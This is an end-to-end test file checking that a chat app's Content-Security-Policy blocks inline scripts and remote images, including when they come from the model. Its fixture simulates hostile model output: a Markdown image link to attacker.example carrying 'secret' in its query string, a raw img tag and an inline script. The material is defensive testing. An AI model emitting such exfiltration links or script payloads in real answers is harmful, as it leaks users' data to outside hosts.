// The Content-Security-Policy where it acts: browser mode serves the same policy as the Electron protocol
// handler, and in the running app an inline script and a remote image are blocked
// (securitypolicyviolation), including when they arrive inside the model's answer.
import { describe, expect, it } from 'vitest';
import { contentSecurityPolicy } from '../../electron/shell/csp.js';
import { text } from '../fixtures/fake-anthropic/index.js';
import { useE2EApp } from './support/e2e-app.js';
import { ChatPage } from './support/pages/chat-page.js';

const e2e = useE2EApp();
const poll = { timeout: 15_000, interval: 50 };

interface Violation {
  directive: string;
  blocked: string;
}

describe('Content-Security-Policy in browser mode', () => {
  it('is the same policy the Electron window gets', async () => {
    const { page } = await e2e.open();
    const response = await page.request.get(e2e.app.url);
    expect(response.headers()['content-security-policy']).toBe(contentSecurityPolicy());
  });

  it('blocks inline scripts and remote images, also when the model sends them', async () => {
    const { page } = await e2e.open();
    const remoteRequests: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith('http://127.0.0.1')) remoteRequests.push(r.url());
    });
    await page.evaluate(() => {
      const w = window as unknown as { __violations: Violation[] };
      w.__violations = [];
      document.addEventListener('securitypolicyviolation', (e) =>
        w.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }),
      );
    });
    const violations = () =>
      page.evaluate(() => (window as unknown as { __violations: Violation[] }).__violations);

    // Hostile content from the model: a remote Markdown image (an exfiltration channel) and raw HTML.
    e2e.fake.enqueue(
      text(
        'Here you go ![tracker](https://attacker.example/leak.png?m=secret) ' +
          '<img src="https://attacker.example/raw.png"> <script>window.__pwned = 1</script> done.',
      ),
    );
    const chat = new ChatPage(page);
    await chat.send('show me');
    await expect.poll(() => chat.lastAnswer().innerText(), poll).toContain('done.');
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    // The answer's images were never even requested (the renderer does not load remote images).
    expect(remoteRequests, JSON.stringify(remoteRequests)).toEqual([]);

    // And the policy itself, exercised directly in the page.
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.__inline = 1';
      document.body.append(script);
      const img = document.createElement('img');
      img.src = 'https://attacker.example/pixel.png';
      document.body.append(img);
    });
    await expect
      .poll(async () => (await violations()).map((v) => v.directive).sort(), poll)
      .toEqual(expect.arrayContaining(['img-src', 'script-src-elem']));
    expect(await page.evaluate(() => (window as unknown as { __inline?: number }).__inline)).toBeUndefined();
  });
});
